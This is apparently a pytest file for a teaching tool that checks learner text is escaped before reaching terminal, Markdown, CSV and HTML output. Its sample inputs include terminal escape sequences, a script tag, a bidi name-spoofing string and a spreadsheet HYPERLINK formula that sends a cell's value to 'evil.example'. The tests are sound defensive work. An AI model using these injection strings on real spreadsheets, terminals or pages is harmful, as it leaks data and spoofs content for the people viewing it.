"""Learner-controlled text in each of the four media it reaches (issue 34, item 5): one
escaping function per medium, seen on hostile strings, and seen used where the medium is
written (the console every command prints with, feedback files, CSV exports, page templates
and the notebook's check() table)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from lessonkit.lesson.text import csv_cell, html_text, markdown_text, safe_name, safe_text

TITLE = "\x1b]0;pwned\x07"  # set the terminal's title
CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
HEADING = "## Make it yours: passed"
FENCE = "```\nclosed the block\n```"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TAG = "<script>alert(1)</script>"
HOSTILE = (TITLE, CLEAR, HEADING, FENCE, FORMULA, TAG, "\u2028line", "\ud800lone", "\x9b31m")


PROSE = {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "code_inline"}
TABLE = {
    f"{part}_{end}"
    for part in ("table", "thead", "tbody", "tr", "th", "td")
    for end in ("open", "close")
}


def _kinds(markdown: str) -> set[str]:
    """The kinds of token markdown-it (CommonMark and tables) reads in `markdown`."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    return {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}


# --------------------------------------------------------------------------- terminal


@pytest.mark.parametrize("text", HOSTILE)
def test_terminal_text_keeps_no_control_character(text):
    for shown in (safe_text(text), safe_name(text)):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]", shown)
        shown.encode("utf-8")  # no lone surrogate left
    assert "\n" not in safe_name("a\nb") and "\\n" in safe_name("a\nb")


def test_the_console_every_command_prints_with_shows_escapes_as_text(monkeypatch):
    """A file name or message in a table cell, a caption or a plain line: no raw escape
    reaches the terminal, though the console draws the table and its styles itself."""
    from rich.table import Table
    from rich.text import Text

    from lessonkit.commands._common import console, marked

    out = io.StringIO()
    monkeypatch.setattr("sys.stdout", out)
    view = console()
    table = Table("file", "message", caption=Text(CLEAR))
    table.add_row(Text(TITLE + "a.py"), Text(TAG + CLEAR))
    view.print(table)
    view.print(marked("bad", f"{TITLE} failed"))
    view.print(Text(HEADING + "\x07"), "plain " + CLEAR)
    printed = out.getvalue()
    assert "\x1b" not in printed and "\x07" not in printed, repr(printed)
    assert "\ufffd]0;pwned" in printed and "\ufffd[2J" in printed


def test_the_cli_error_line_shows_escapes_as_text(tmp_path, capsys):
    from lessonkit.cli import main

    code = main(["grades", "--gradebook", str(tmp_path / f"{CLEAR}missing.db")])
    err = capsys.readouterr().err
    assert code == 2 and "\ufffd[2J\ufffd[Hmissing.db" in err
    assert "\x1b" not in err, repr(err)


# --------------------------------------------------------------------------- Markdown


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_makes_no_markup(text):
    assert _kinds(markdown_text(text)) <= PROSE, markdown_text(text)
    row = f"| a | b |\n|---|---|\n| {markdown_text(text, cell=True)} | b |\n"
    assert _kinds(row) <= PROSE | TABLE, row


def test_a_markdown_table_cell_stays_one_cell():
    cell = markdown_text("a | b\n## c `d|e`", cell=True)
    assert "\n" not in cell and cell.count("|") == cell.count("\\|") == 2, cell


def test_project_feedback_escapes_the_file_name_and_the_script_s_error_output():
    """The evidence quotes the script's stderr: it cannot forge a heading or a verdict."""
    from lessonkit.project import ProjectReport, PropertyResult

    evidence = f"`python project.py` failed: it exited with status 1\n{HEADING}\n{FENCE}\n{TAG}"
    report = ProjectReport(
        "03",
        f"{TITLE}[x](http://evil).py",
        1,
        2,
        (PropertyResult("runs", "fails", evidence),),
        (),
        1.0,
        True,
    )
    page = report.feedback_markdown()
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").parse(page)
    headings = [t for t in tokens if t.type == "heading_open"]
    assert len(headings) == 1 and not any(t.type == "fence" for t in tokens), page
    kinds = {c.type for t in tokens for c in t.children or ()}
    assert "link_open" not in kinds and "html_inline" not in kinds, page
    assert "\x1b" not in page and "\x07" not in page


def test_evidence_tables_escape_the_grader_s_messages():
    from lessonkit.evidence.report import verdicts_section
    from lessonkit.grade.judging.results import FAILED, GradeReport, TaskResult

    tasks = (TaskResult("a", "Task A", FAILED, f"got {TAG} | {HEADING}\n{FENCE}", None),)
    table = verdicts_section(GradeReport("state-02", "x.py", tasks, (), 0.1, 1))
    rows = table.splitlines()[2:]
    assert len(rows) == 3 and rows[-1].count(" | ") == 2, table
    assert not re.search(r"(?<!\\)<script>", table) and "\\<script>" in table


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", CLEAR + "=1"]
)
def test_a_csv_cell_is_never_a_formula_and_keeps_no_control_character(text):
    cell = csv_cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert "\x1b" not in cell


def test_the_exports_write_every_cell_through_csv_cell():
    """A file name and a task message that start a formula stay text in the batch CSV."""
    from pathlib import Path

    from lessonkit.grade.batches.kind import BatchEntry
    from lessonkit.grade.judging.report import Scoring, summary_csv
    from lessonkit.grade.judging.results import FAILED, GradeReport, TaskResult

    tasks = (TaskResult("a", "Task A", FAILED, FORMULA, None),)
    report = GradeReport("state-02", f"{FORMULA}.py", tasks, (), 0.1, 1)
    text = summary_csv([BatchEntry(Path(report.file), report)], Scoring((("a", 1.0, False),)))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


# --------------------------------------------------------------------------- HTML


@pytest.mark.parametrize("text", HOSTILE)
def test_html_text_makes_no_tag_and_keeps_no_control_character(text):
    shown = str(html_text(text))
    assert "<" not in shown and ">" not in shown and '"' not in shown and "'" not in shown
    assert "\x1b" not in shown and "\x07" not in shown


def test_every_page_template_prints_text_through_html_text():
    from markupsafe import Markup

    from lessonkit.render.page import _environment

    template = _environment().from_string("<p title='{{ a }}'>{{ a }}</p>{{ b }}")
    page = template.render(a=TAG + CLEAR + "'", b=Markup("<em>made by a renderer</em>"))
    assert "<script>" not in page and "\x1b" not in page and "&#39;" in page
    assert "<em>made by a renderer</em>" in page


def test_the_notebook_check_table_escapes_learner_text():
    from lessonkit.grade.judging.results import FAILED, GradeReport, TaskResult
    from lessonkit.learner.view import CheckResult

    tasks = (TaskResult("a", "Task A", FAILED, f"{TAG}\n{CLEAR}", "hint"),)
    result = CheckResult(GradeReport("state-02", "x.py", tasks, (), 0.1, 1))
    html = result._repr_html_()
    assert "<script>" not in html and "\x1b" not in html and "&lt;/script&gt;<br>" in html
    assert "\x1b" not in str(result)


# --------------------------------------------------------------------------- bidi controls

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _bidi_in(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in text if c in BIDI]


@pytest.mark.parametrize("control", list(BIDI))
def test_no_bidi_control_reaches_a_markdown_or_html_file_as_in_csv(control):
    """U+202E before a name shows its letters backwards: `\\u202eana` could pass for another
    student in a report, as in a spreadsheet, where CSV already showed it as U+FFFD."""
    text = f"{control}ana: 9/8 passed"
    assert _bidi_in(csv_cell(text)) == []
    for shown in (markdown_text(text), markdown_text(text, cell=True), str(html_text(text))):
        assert _bidi_in(shown) == [], shown


def test_feedback_and_the_class_report_show_no_bidi_control():
    from lessonkit.course.class_report import class_report, render_class_report
    from lessonkit.course.gradebook import Attempt, TaskGrade
    from lessonkit.grade.judging.results import FAILED, GradeReport, TaskResult

    evil = "\u202eyp.ana\u2066"
    report = GradeReport(
        "demo-01",
        f"{evil}.py",
        (TaskResult("a", f"Task {evil}", FAILED, f"`g` is {evil}", f"hint {evil}", False),),
        (),
        1.0,
        7,
    )
    assert _bidi_in(report.feedback_markdown()) == []
    grade = TaskGrade(
        "a", f"Task {evil}", FAILED, 0.0, 1.0, False, f"wrong {evil}", "lesson inputs", f"p/{evil}"
    )
    attempt = Attempt(
        1, evil, "demo-01", f"Demo {evil}", f"{evil}.py", "0" * 64, 1,
        "2026-12-04T00:00:00Z", 1.0, "0.1.0", "r1", 0.0, 1.0, None, (grade,),
    )  # fmt: skip
    page = render_class_report(class_report([attempt], "demo-01", "latest"))
    assert _bidi_in(page) == []
